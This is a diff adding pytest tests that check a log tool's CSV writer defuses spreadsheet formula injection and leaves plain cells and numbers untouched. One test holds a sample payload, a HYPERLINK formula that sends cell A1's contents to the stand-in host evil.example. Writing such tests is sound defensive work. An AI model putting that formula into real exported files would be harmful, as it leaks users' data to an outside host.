@@ -165,3 +165,32 @@ def test_csv_quotes_any_field_that_needs_it(tmp_path):
     assert row["level"] == "WEIRD,LEVEL" and row["source"] == 'Folder/"Odd", name.MapServer'
     assert row["user"] == "line\nbreak" and row["message"] == "plain"
     assert row["machine"] == "GIS1"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_cells_that_start_a_formula(tmp_path, start):
+    attack = start + "HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+    raw = make_record(T0, type="SEVERE", code=6502, user=attack, source=start + "SUM(1)",
+                      machine="GIS1", elapsed="-1.5", message=attack)
+    path = str(tmp_path / "attack.csv")
+    write_records([LogRecord.from_json(raw)], CsvWriter(path))
+    row = dict(zip(FIELDS, read_csv(path)[1]))
+    assert row["user"] == "'" + attack and row["message"] == "'" + attack
+    assert row["source"] == "'" + start + "SUM(1)"
+    # Numbers stay numbers, and untouched cells stay as they were.
+    assert row["elapsed"] == "-1.5" and row["code"] == "6502" and row["machine"] == "GIS1"
+    # JSON lines keep the raw text.
+    jpath = str(tmp_path / "attack.jsonl")
+    write_records([LogRecord.from_json(raw)], JsonLinesWriter(jpath))
+    with io.open(jpath, encoding="utf-8") as handle:
+        assert json.loads(handle.readline())["user"] == attack
+
+
+def test_csv_leaves_harmless_cells_alone(tmp_path):
+    raw = make_record(T0, type="INFO", code=8001, user="admin-1", machine="GIS1",
+                      message="Started 'Maps/A.MapServer' = ok; -x @y")
+    path = str(tmp_path / "plain.csv")
+    write_records([LogRecord.from_json(raw)], CsvWriter(path))
+    row = dict(zip(FIELDS, read_csv(path)[1]))
+    assert row["user"] == "admin-1"
+    assert row["message"] == "Started 'Maps/A.MapServer' = ok; -x @y"
